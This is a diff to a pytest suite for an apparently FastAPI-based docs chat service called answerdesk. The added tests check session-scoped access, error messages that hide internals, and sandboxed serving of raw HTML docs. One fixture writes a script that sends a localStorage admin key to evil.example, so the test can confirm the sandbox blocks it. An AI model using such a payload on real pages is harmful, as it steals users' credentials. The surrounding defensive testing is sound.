@@ -4,6 +4,7 @@ honest escalations, SSE as a client parses it, multi-turn, and every validation 
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import Iterator
 from typing import Any
 
@@ -11,6 +12,8 @@ import pytest
 from fastapi.testclient import TestClient
 
 from assistant.api import create_app
+from assistant.api.routes import UNAVAILABLE
+from assistant.errors import EscalationError
 from assistant.services import Services
 from assistant.settings import Settings
 
@@ -27,10 +30,18 @@ def agent(docs_services: Services) -> dict[str, str]:
     return {"Authorization": f"Bearer {key}"}
 
 
+# Anonymous conversations belong to the session that started them; the tests keep each token as the widget does.
+SESSIONS: dict[str, dict[str, str]] = {}
+
+
 def ask(client: TestClient, question: str, conversation_id: str | None = None) -> dict[str, Any]:
-    r = client.post("/v1/chat", json={"question": question, "conversation_id": conversation_id})
+    r = client.post("/v1/chat", json={"question": question, "conversation_id": conversation_id},
+                    headers=SESSIONS.get(conversation_id or "", {}))
     assert r.status_code == 200, r.text
-    return r.json()  # type: ignore[no-any-return]
+    body: dict[str, Any] = r.json()
+    if "X-Answerdesk-Session" in r.headers:
+        SESSIONS[body["conversation_id"]] = {"X-Answerdesk-Session": r.headers["X-Answerdesk-Session"]}
+    return body
 
 
 def parse_sse(text: str) -> list[tuple[str, Any]]:
@@ -90,7 +101,9 @@ def test_off_topic_question_is_escalated_honestly(client: TestClient, agent: dic
     assert esc["status"] == "open" and not esc["requested_by_user"]
     assert esc["reasons"] and esc["confidence"] == body["confidence"]
     assert esc["role"] == "community" and esc["priority"] == "Low" and esc["labels"] == ["answerdesk"]
-    own = client.get(f"/v1/escalations/{body['escalation_id']}")  # the anonymous asker can follow it
+    # The anonymous asker can follow it, with the session that asked; nobody else can.
+    own = client.get(f"/v1/escalations/{body['escalation_id']}", headers=SESSIONS[body["conversation_id"]])
+    assert client.get(f"/v1/escalations/{body['escalation_id']}").status_code == 404
     assert own.status_code == 200 and own.json()["id"] == body["escalation_id"]
 
 
@@ -98,7 +111,8 @@ def test_asking_for_a_human_escalates(client: TestClient) -> None:
     first = ask(client, "How do I install answerdesk?")
     body = ask(client, "This didn't help, I want to talk to a human please", first["conversation_id"])
     assert body["escalated"] and "human_requested" in body["flags"]
-    r = client.post("/v1/escalations", json={"conversation_id": first["conversation_id"], "reason": "still stuck"})
+    r = client.post("/v1/escalations", json={"conversation_id": first["conversation_id"], "reason": "still stuck"},
+                    headers=SESSIONS[first["conversation_id"]])
     assert r.status_code == 201
     esc = r.json()
     assert esc["requested_by_user"] and "still stuck" in esc["reasons"]
@@ -130,7 +144,8 @@ def test_follow_up_is_rewritten_with_the_previous_turn(client: TestClient) -> No
 
 def test_feedback(client: TestClient) -> None:
     body = ask(client, "How do I install answerdesk?")
-    r = client.post("/v1/feedback", json={"message_id": body["message_id"], "rating": "up", "comment": "thanks"})
+    r = client.post("/v1/feedback", json={"message_id": body["message_id"], "rating": "up", "comment": "thanks"},
+                    headers=SESSIONS[body["conversation_id"]])
     assert r.status_code == 201 and r.json()["rating"] == "up"
 
 
@@ -155,7 +170,7 @@ def test_chat_validation_names_the_field(client: TestClient, payload: dict[str, 
 def test_other_client_errors(client: TestClient) -> None:
     unknown = "00000000-0000-0000-0000-000000000000"
     r = client.post("/v1/chat", json={"question": "hi", "conversation_id": unknown})
-    assert r.status_code == 404 and unknown in r.json()["detail"]
+    assert r.status_code == 404 and r.json()["detail"] == "conversation not found"  # the id is not echoed
     r = client.post("/v1/chat", json={"question": "hi", "conversation_id": unknown},
                     headers={"Accept": "text/event-stream"})
     assert r.status_code == 404
@@ -189,9 +204,27 @@ def test_unreachable_index_is_503_with_retry_after(tmp_path: Any, docs_services:
                     raise_server_exceptions=False) as c:
         r = c.post("/v1/chat", json={"question": "How do I install answerdesk?"})
         assert r.status_code == 503 and r.headers["Retry-After"]
-        assert "Chroma" in r.json()["detail"] and "Traceback" not in r.text
+        # Anyone: a plain message; the cause (host, port, setting) is for the log and for admins.
+        assert r.json()["detail"] == UNAVAILABLE and "Traceback" not in r.text
         r = c.get("/readyz")
-        assert r.status_code == 503 and r.json()["checks"]["index"].startswith("unreachable")
+        assert r.status_code == 503 and r.json()["checks"]["index"] == "unreachable"
+        admin, _ = c.app.state.services.keys.create("admin", "ops")  # type: ignore[attr-defined]
+        r = c.post("/v1/chat", json={"question": "How do I install answerdesk?"}, headers={"X-API-Key": admin})
+        assert r.status_code == 503 and "Chroma" in r.json()["detail"] and "127.0.0.1" in r.json()["detail"]
+        r = c.get("/readyz", headers={"Authorization": f"Bearer {admin}"})
+        assert r.json()["checks"]["index"].startswith("unreachable: ") and "Chroma" in r.json()["checks"]["index"]
+
+
+def test_an_sse_error_shows_no_internals(client: TestClient, docs_services: Services,
+                                        monkeypatch: pytest.MonkeyPatch) -> None:
+    def lost(*_a: Any, **_k: Any) -> None:
+        raise EscalationError("Could not record the answer: OperationalError at db.internal.example:5432")
+
+    monkeypatch.setattr(docs_services.conversations, "add_exchange", lost)  # fails after the text streamed
+    r = client.post("/v1/chat", json={"question": "How do I install answerdesk?"},
+                    headers={"Accept": "text/event-stream"})
+    kind, data = parse_sse(r.text)[-1]
+    assert kind == "error" and data["detail"] == UNAVAILABLE and "db.internal" not in r.text
 
 
 def test_unexpected_error_is_json_without_trace(client: TestClient, docs_services: Services,
@@ -225,3 +258,22 @@ def test_http_callers_never_see_internal_content(client: TestClient, docs_servic
         shown = r.text.replace(question, "")  # the question is echoed back as search_query
         assert "OSPREY" not in shown and "internal-notes" not in shown and "Refund runbook" not in shown
     assert "OSPREY" not in client.get("/v1/escalations", headers=agent).text.replace(question, "")
+
+
+def test_raw_html_in_the_demo_docs_cannot_reach_this_origin(tmp_path: Any, docs_services: Services) -> None:
+    """The analytics page keeps the admin key in this origin's storage: a docs folder's own HTML page is
+    served sandboxed, without scripts. And the home page's tab shows a title, not the template's markers."""
+    docs = tmp_path / "kb"
+    docs.mkdir()
+    (docs / "evil.html").write_text("<script>fetch('https://evil.example/?k=' + localStorage.getItem('k'))</script>")
+    (docs / "index.md").write_text("# Welcome\n\nHello.\n")
+    settings = docs_services.settings.model_copy(update={"demo_docs_dir": docs})
+    with TestClient(create_app(services=Services(settings, embedder=docs_services.embedder))) as c:
+        r = c.get("/kb/evil.html")
+        assert r.status_code == 200
+        csp = r.headers["content-security-policy"]
+        assert csp.startswith("sandbox") and "allow-scripts" not in csp and "default-src 'none'" in csp
+        assert r.headers["x-content-type-options"] == "nosniff"
+        for path, title in (("/", "answerdesk documentation"), ("/kb/index.md", "Welcome — answerdesk documentation")):
+            page = c.get(path).text
+            assert re.search(r"<title>(.*?)</title>", page, re.S).group(1) == title, path  # type: ignore[union-attr]
